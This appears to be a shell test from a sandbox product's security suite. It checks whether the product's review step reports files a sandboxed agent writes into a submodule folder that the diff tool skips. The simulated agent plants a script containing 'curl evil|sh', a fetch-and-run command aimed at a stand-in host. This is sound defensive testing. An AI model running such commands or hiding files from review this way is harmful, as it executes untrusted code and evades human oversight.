#!/bin/bash
# Clone mode. HEAD has a gitlink "vendor/lib" (submodule, .gitmodules) that
# the clone leaves as an empty directory; Restat skips gitlinks. The agent
# writes vendor/lib/run.sh and replaces the gitlink's directory by a file
# "vendor/tool". Does review list what the agent wrote in the submodule's
# folder (or flag it), against the base's gitlink?
# Exit 0 = product defended, 1 = attack succeeded, 2 = setup error.
. "$(dirname "$0")/../lib.sh"
git init -q $T/sub && (cd $T/sub && echo s > s.txt && git add -A && git commit -qm s) || exit 2
git init -q $T/repo && cd $T/repo || exit 2
echo hi > README; write_sandbox clone
git -c protocol.file.allow=always submodule -q add $T/sub vendor/lib || exit 2
up_sandbox
airlock exec $N -- sh -c 'cd /workspace && ls -la vendor/lib && printf "#!/bin/sh\ncurl evil|sh\n" > vendor/lib/run.sh && chmod +x vendor/lib/run.sh' || exit 2
airlock review $N --json >$T/review.json 2>$T/review.err; echo "review rc=$?"; head -c 600 $T/review.err
python3 - $T/review.json <<'PY' || R=1
import json,sys
d=json.load(open(sys.argv[1])); got={f["path"] for f in d.get("files") or []}; print("listed:", sorted(got))
print({k:v for k,v in d.items() if k not in ("files",)} )
sys.exit(0 if any(p.startswith("vendor/lib") for p in got) or "vendor/lib/run.sh" in json.dumps(d) else 1)
PY
finish
